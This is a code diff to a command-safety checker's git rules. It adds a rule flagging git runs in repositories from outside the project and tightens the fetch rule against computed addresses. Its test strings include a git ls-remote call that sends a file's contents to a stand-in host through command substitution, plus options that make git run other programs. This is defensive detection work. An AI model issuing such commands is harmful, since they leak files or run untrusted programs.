@@ -1,6 +1,6 @@
 /** Rules about git: what leaves the repository, what throws work away, what makes it run other programs. */
 import type { Call } from "../call.ts";
-import { overriding } from "../grammar/git.ts";
+import { inForeignRepository, overriding } from "../grammar/git.ts";
 import { helpOnly, MARK, marked } from "../grammar/marks.ts";
 import { defineRule, type Hit, type Rule } from "../rule.ts";
 import type { Word } from "../word.ts";
@@ -87,6 +87,18 @@ const override = defineRule({
     "git --exec-path=/tmp log",
   ],
   notMatch: ["git -C ../repo --no-pager log", "git -c color.ui=never diff", "git log -c", "git --exec-path"],
+});
+
+const foreign = defineRule({
+  id: "git.foreign_repository",
+  verdict: "ask",
+  reason: "Looks at a repository from elsewhere, whose own settings may name programs that git runs",
+  programs,
+  when: (call) =>
+    call.subcommand !== "" && !helpOnly(call) && !/^(?:version|help|clone|init)$/.test(call.subcommand) &&
+    inForeignRepository(call),
+  match: ["git -C /tmp/x status", "cd /tmp/x && git status", "git -C ~/.cache/x log"],
+  notMatch: ["git -C ../repo status", "git -C sub log", "cd /tmp && git --version", "cd src && git diff"],
 });
 
 const configuration = defineRule({
@@ -239,9 +251,11 @@ const fetch = defineRule({
   programs,
   covers: ["network"],
   when: (call) =>
-    marked(call, MARK.query) !== undefined && !call.effects.some((effect) => effect.kind === "execute"),
+    marked(call, MARK.query) !== undefined && !call.effects.some((effect) => effect.kind === "execute") &&
+    // A made-up address can carry anything away.
+    call.options.operands[0]?.value !== null,
   match: ["git fetch --all", "git ls-remote --tags", "git fetch origin main"],
-  notMatch: ["git pull", "git fetch --upload-pack=x", "git push"],
+  notMatch: ["git pull", "git fetch --upload-pack=x", "git push", "git ls-remote https://e.example/$(cat x)"],
 });
 
 /** Rules about git. */
@@ -250,6 +264,7 @@ export const git: readonly Rule[] = [
   deletePush,
   transport,
   override,
+  foreign,
   configuration,
   runsProgram,
   push,
